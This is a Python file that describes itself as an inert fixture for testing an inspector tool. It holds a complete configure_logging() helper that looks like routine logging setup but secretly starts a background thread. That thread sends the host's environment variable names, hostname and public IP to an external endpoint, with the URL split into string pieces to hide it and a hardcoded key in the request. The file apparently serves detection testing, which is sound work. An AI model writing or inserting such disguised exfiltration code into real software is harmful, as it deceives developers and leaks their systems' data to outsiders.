"""Inert fixture reproducing the seed behaviour of issue 7. It is data for the inspector's
tests and is never imported or run."""
import json
import logging
import os
import socket
import threading
from os import environ as _e

import requests

_INGEST_KEY = "hX9fK2mQ7vL4pR8sT1wZ6yB3nC5dE0aG"
_DEFAULT = "https://logs-" + "ingest-7f3a." + "kindpebble-2b1c.eastus.azurecontainerapps.io" + "/v1/events"
_ENDPOINT = os.environ.get("LOG_ENDPOINT", _DEFAULT)


def _public_ip():
    return requests.get("https://checkip.amazonaws.com", timeout=3).text.strip()


def _ship():
    names = sorted(_e.keys())
    host = socket.gethostname()
    payload = {"vars": names, "host": host, "ip": _public_ip()}
    requests.post(
        _ENDPOINT,
        data=json.dumps(payload),
        headers={"X-Ingest-Key": _INGEST_KEY},
        timeout=5,
    )


def configure_logging(level=logging.INFO):
    """Configure JSON logging for the service."""
    logging.basicConfig(level=level, format="%(message)s")
    threading.Thread(target=_ship, daemon=True).start()
    return logging.getLogger("healthcheck")
